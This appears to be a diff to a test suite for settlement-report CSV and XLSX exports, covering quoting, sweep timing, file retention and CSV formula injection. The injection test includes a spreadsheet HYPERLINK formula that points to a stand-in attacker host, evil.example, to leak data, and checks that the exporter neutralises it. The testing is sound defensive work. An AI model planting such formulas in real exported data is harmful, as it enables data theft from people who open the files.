@@ -279,10 +279,10 @@ describe('settlement reports: CSV and XLSX exports that reconcile with the ledge
         fill.journal_entry_id,
       ]);
       expect(first[col('executed_at')]).toBe(fill.executed_at.toISOString());
-      // RFC 4180 quoting in the raw bytes, CRLF line ends.
+      // RFC 4180 quoting in the raw bytes (typed values always quoted), CRLF line ends.
       const text = bytes.toString('utf8');
-      expect(text).toContain(',"a-1,""comma""","Quote ""Q"", Comma, Inc.",ASCEND-910B,cn-beijing,');
-      expect(text).toContain(',"b-2 ""quoted""",Beta Labs,ASCEND-910B,');
+      expect(text).toContain(',"a-1,""comma""","Quote ""Q"", Comma, Inc.","ASCEND-910B","cn-beijing",');
+      expect(text).toContain(',"b-2 ""quoted""","Beta Labs","ASCEND-910B",');
       expect(text.split('\r\n')).toHaveLength(rows.length + 2);
       expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
     });
@@ -489,11 +489,96 @@ describe('settlement reports: CSV and XLSX exports that reconcile with the ledge
         [start, end, beta.id, financeKeyId],
       );
       const sweep = stack.get(ReportingSweep);
-      expect(await sweep.run()).toBe(1);
+      expect(await sweep.run()).toBeGreaterThanOrEqual(1);
       const done = await finished(id);
       expect(done).toMatchObject({ status: 'SUCCEEDED', rowCount: 3 });
       expect(done.totals).toMatchObject(await ledgerTotals({ from: start, to: end, partnerId: beta.id }));
       expect(await sweep.run()).toBe(0);
+    });
+
+    it('finds a report stuck with no job in one sweep interval, not minutes later', async () => {
+      const interval = Number(stack.env.SWEEP_INTERVAL_MS ?? 30_000);
+      const [{ id }] = await stack.dataSource.query(
+        `INSERT INTO settlement_report (format, period_from, period_to, partner_id, requested_by, created_at)
+         VALUES ('CSV', $1, $2, $3, $4, now() - make_interval(secs => $5::double precision / 1000 + 1)) RETURNING id`,
+        [start, end, beta.id, financeKeyId, interval],
+      );
+      expect(await stack.get(ReportingSweep).run()).toBeGreaterThanOrEqual(1);
+      expect(await finished(id)).toMatchObject({ status: 'SUCCEEDED', rowCount: 3 });
+    });
+
+    it('removes a file REPORTS_RETENTION_DAYS after its report finished: fileDeletedAt set, no downloadUrl, download answers 410', async () => {
+      const old = await built({ from: start, to: end, partnerId: beta.id });
+      const recent = await built({ from: start, to: end, partnerId: alpha.id });
+      await stack.dataSource.query(`UPDATE settlement_report SET finished_at = now() - interval '30 days 1 minute' WHERE id = $1`, [
+        old.id,
+      ]);
+      await stack.dataSource.query(`UPDATE settlement_report SET finished_at = now() - interval '29 days 23 hours' WHERE id = $1`, [
+        recent.id,
+      ]);
+      const files = async () => (await readdir(reportsDir)).filter((name) => name.startsWith(old.id) || name.startsWith(recent.id));
+      expect(await files()).toHaveLength(2);
+
+      expect(await stack.get(ReportingSweep).removeExpiredFiles()).toBe(1);
+      expect(await files()).toEqual([`${recent.id}.csv`]);
+      const after = (
+        await ok(
+          keys.FINANCE,
+          `query($id: ID!) { settlementReport(id: $id) { status downloadUrl fileDeletedAt sha256 totals { grossAmount } } }`,
+          { id: old.id },
+        )
+      ).settlementReport;
+      expect(after).toMatchObject({
+        status: 'SUCCEEDED',
+        downloadUrl: null,
+        sha256: old.sha256,
+        totals: { grossAmount: old.totals.grossAmount },
+      });
+      expect(Date.now() - new Date(after.fileDeletedAt).getTime()).toBeLessThan(60_000);
+      const gone = await download(old.downloadUrl, keys.FINANCE);
+      expect(gone.status).toBe(410);
+      expect(JSON.parse(gone.body.toString())).toMatchObject({ code: 'REPORT_FILE_DELETED' });
+      expect(JSON.parse(gone.body.toString()).message).toMatch(/removed on .* 30 days after it was built; request the report again/);
+      expect((await download(recent.downloadUrl, keys.FINANCE)).status).toBe(200);
+      expect(await stack.get(ReportingSweep).removeExpiredFiles()).toBe(0);
+    });
+  });
+  describe('values a spreadsheet would run as formulas', () => {
+    it('writes them in CSV as quoted text behind a single quote (OWASP), recoverable, with the totals unchanged; XLSX keeps them as text', async () => {
+      const from = new Date(Date.now() - 1);
+      const evil = await pool.partner('@Formula "Labs"', 'SG');
+      const typed = ['=HYPERLINK("https://evil.example/?leak","Click")', '+1+2', '-3', "'quoted", 'plain'];
+      await trade(typed.map((clientOrderId) => ({ who: evil, clientOrderId, skuCode: 'MLU370', quantity: 1 })));
+      const period = { from, to: new Date(Date.now() + 1000), partnerId: evil.id };
+      const done = await built(period);
+      expect(done.rowCount).toBe(typed.length);
+      expect(done.totals).toMatchObject(await ledgerTotals(period));
+
+      const { bytes, rows } = await csvOf(done);
+      const text = bytes.toString('utf8');
+      expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/?leak"",""Click"")","'@Formula ""Labs""","MLU370","cn-shanghai",`);
+      expect(text).toContain(`,"'+1+2",`);
+      expect(text).toContain(`,"''quoted",`);
+      expect(text).toContain(`,"plain",`);
+      for (const row of rows) {
+        for (const name of ['client_order_id', 'partner', 'sku', 'region']) expect(row[col(name)]).not.toMatch(/^[=+\-@\t\r]/);
+      }
+      // Dropping one leading single quote gives every value back exactly.
+      const recovered = (value: string) => (value.startsWith("'") ? value.slice(1) : value);
+      expect(rows.map((r) => recovered(r[col('client_order_id')]!)).sort()).toEqual([...typed].sort());
+      expect(new Set(rows.map((r) => recovered(r[col('partner')]!)))).toEqual(new Set(['@Formula "Labs"']));
+      const sum = rows.reduce((total, r) => total.plus(r[col('gross_amount')]!), new Decimal(0));
+      expect(sum.toFixed(2)).toBe(done.totals.grossAmount);
+
+      const xlsx = await built(period, 'XLSX');
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.load((await download(xlsx.downloadUrl, keys.FINANCE)).body as unknown as ArrayBuffer);
+      const cells = book
+        .getWorksheet('Settlements')!
+        .getSheetValues()
+        .slice(2, 2 + typed.length)
+        .map((row) => (row as unknown[])[col('client_order_id') + 1]);
+      expect([...cells].sort()).toEqual([...typed].sort());
     });
   });
 });
